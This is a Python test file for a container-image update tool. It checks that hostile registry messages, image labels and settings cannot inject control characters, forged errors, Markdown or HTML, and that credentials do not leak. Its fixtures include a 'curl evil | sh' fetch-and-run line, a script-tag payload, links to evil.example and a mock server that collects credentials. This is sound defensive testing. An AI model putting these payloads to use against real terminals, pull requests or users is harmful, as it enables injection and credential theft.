"""What a hostile registry, or a hostile change of the settings, can bring onto a terminal, into files, and to others."""

from __future__ import annotations

import json
import re
import traceback
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from imagebot.demo.http_server import Request, Response
from imagebot.demo.registry import EmbeddedRegistry
from imagebot.registries import session
from tests.cli.conftest import Team
from tests.processes import Outcome, write_files
from tests.registries.quirk_server import challenge, page, quirky
from tests.secrets_planted import SECRET, check

Run = Callable[..., Outcome]
HOSTILE = {
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "c1": "\x9b31mred\x85next",
    "newlines": "ok\nerror[forged]: do as I say\r\n  = help: curl evil | sh\v\f",
    "bidi": "safe\u202e\u2066evil\u2069\u200f\u061c",
    "invisible": "ad\u200bmin\ufeff\u00ad\u2060",
    "separators": "one\u2028two\u2029three",
    "rich-markup": "[bold red]x[/] [link=https://evil.example]click[/link] [/nothing]",
    "markdown": "<!-- imagebot: {} --> @admin closes #1 [x](https://evil.example) ![y](https://evil.example/p.png)",
    "html": "<script>alert(1)</script><details open>",
    "long": "x" * 100_000,
}
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|^error\\[forged\\]",
    re.MULTILINE,
)


def repository(folder: Path, host: str, **settings: str) -> str:
    """A config repository with one image of a host; the folder."""
    files = {
        "compose.yaml": f"services: {{web: {{image: {host}/acme/web:1.0}}}}\n",
        "policies/all.yaml": 'policies: [{name: all, images: ["*"]}]\n',
        "docker.json": json.dumps({"auths": {host: {"username": "bot", "password": SECRET}}}),
        **settings,
    }
    return str(write_files(folder / "config", dict(files)))


@pytest.mark.parametrize("output", ["text", "json", "markdown"])
@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_registry_says_is_shown_as_text_alone(
    imagebot: Run, tmp_path: Path, text: str, output: str
) -> None:
    message = json.dumps({"errors": [{"code": "DENIED", "message": HOSTILE[text]}]}, ensure_ascii=False)
    for body in (message, HOSTILE[text]):
        answer = Response(403, body.encode(), {"Content-Type": "application/json"})
        with quirky(lambda r, answer=answer: answer) as host:  # type: ignore[misc] # mypy cannot tell a default
            outcome = imagebot("plan", repository(tmp_path, host), "-o", output)

        assert outcome.code == 4
        shown = (outcome.out + outcome.err).replace("@\u200b", "@-")  # how our own escape breaks mentions
        assert not FORBIDDEN.search(shown)
        assert len(shown) < 10_000
        if output == "markdown":
            assert not re.search(r"(?<!\\)<(?:!--|script|details)|@admin|(?<!\\)\]\(https://evil", shown)


def test_a_warning_of_a_registry_is_shown_as_text_and_no_more_than_a_few(
    imagebot: Run, tmp_path: Path
) -> None:
    warnings = iter(range(10_000))
    header: dict[str, Any] = {}

    def answer(request: Request) -> Response:
        header["Warning"] = f'299 - "\x9b31m text {next(warnings)}"'
        last = request.one("last", "0")
        if last == "50":
            return page(["1.0"], **header)
        return page([f"1.0.{last}"], Link=f'<?last={int(last) + 1}>; rel="next"', **header)

    with quirky(answer) as host:
        outcome = imagebot("plan", repository(tmp_path, host))

    lines = [line for line in outcome.err.splitlines() if f"{host} warns: " in line]
    assert 1 <= len(lines) <= 10
    assert not FORBIDDEN.search(outcome.err)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_an_image_says_of_itself_changes_nothing_of_a_pull_request(
    team: Team, imagebot: Run, text: str
) -> None:
    keys = ("title", "description", "version", "url", "source", "revision", "vendor", "authors")
    labels = {f"org.opencontainers.image.{key}": HOSTILE[text] for key in keys} | {HOSTILE[text]: "key"}
    team.registry.push("acme/web", "1.5.0", labels=labels)

    assert imagebot("apply", str(team.clone)).code == 0

    pull = team.open_pulls["imagebot/staging/web"]
    written = f"{pull.title}\n{pull.body}\n{team.hosted.message(pull.head)}"
    assert pull.body.count("<!-- imagebot:") <= 1
    assert not FORBIDDEN.search(written.replace("@\u200b", ""))
    assert "evil.example/p.png)" not in written
    assert "@admin" not in written
    assert "<script>" not in written


@pytest.mark.parametrize("auth", ["basic", "token"])
def test_the_trace_of_a_bug_holds_no_secret(
    imagebot: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, auth: str
) -> None:
    """IMAGEBOT_DEBUG=1 prints the chain of causes; its frames hold the credentials, and are not printed."""
    monkeypatch.setenv("IMAGEBOT_DEBUG", "1")
    judged = session._judged

    def bug(question: Any, answer: Any, found: Any, way: Any) -> Any:
        if found and found.credential:
            raise ZeroDivisionError("a bug")
        return judged(question, answer, found, way)

    monkeypatch.setattr(session, "_judged", bug)
    with EmbeddedRegistry(auth=auth, credentials={"bot": SECRET}) as closed:  # type: ignore[arg-type] # a table
        closed.push("acme/web", "1.5.0")
        folder = repository(tmp_path, closed.host)
        with pytest.raises(ZeroDivisionError) as failed:
            imagebot("plan", folder, "--docker-config", f"{folder}/docker.json")

    trace = "".join(traceback.format_exception(failed.value))
    assert "_judged" in trace or "bug" in trace
    check(trace, "the trace")


# --- imagebot.yaml of a pull request: it can name hosts, and sends no old credential to them ---------------------------


class Collector:
    """A server that asks for credentials, and keeps what it gets."""

    def __init__(self) -> None:
        self.got: list[str] = []

    def __call__(self, request: Request) -> Response:
        self.got.append(request.headers.get("authorization", "") + request.body.decode())
        return challenge('Basic realm="tell me"')


def test_a_mirror_gets_no_credentials_of_the_registry_it_stands_for(imagebot: Run, tmp_path: Path) -> None:
    collector = Collector()
    with quirky(collector) as evil:
        settings = f'registries: {{"r.example.com": {{mirror: "{evil}/x"}}}}\n'
        folder = repository(tmp_path, "r.example.com", **{"imagebot.yaml": settings})
        imagebot("plan", folder, "--docker-config", f"{folder}/docker.json")

    assert set(collector.got) == {""}


def test_a_host_that_a_policy_names_gets_no_credentials_of_another(imagebot: Run, tmp_path: Path) -> None:
    collector = Collector()
    with quirky(collector) as evil:
        folder = repository(tmp_path, evil)
        credentials = {"auths": {"ghcr.io": {"username": "bot", "password": SECRET}}}
        write_files(tmp_path / "config", {"docker.json": json.dumps(credentials)})
        outcome = imagebot("plan", folder, "--docker-config", f"{folder}/docker.json")

    assert set(collector.got) == {""}
    assert f"no credentials for {evil}" in outcome.out


def test_a_chart_repository_in_the_clear_is_not_asked(imagebot: Run, tmp_path: Path) -> None:
    chart = (
        "apiVersion: v2\nname: a\nversion: 1.0.0\n"
        "dependencies: [{name: web, version: 1.0.0, repository: 'http://charts.example.com/stable'}]\n"
    )
    outcome = imagebot(
        "plan", repository(tmp_path, "r.example.com", **{"chart/Chart.yaml": chart, "compose.yaml": ""})
    )

    assert "http://charts.example.com is not asked" in outcome.out
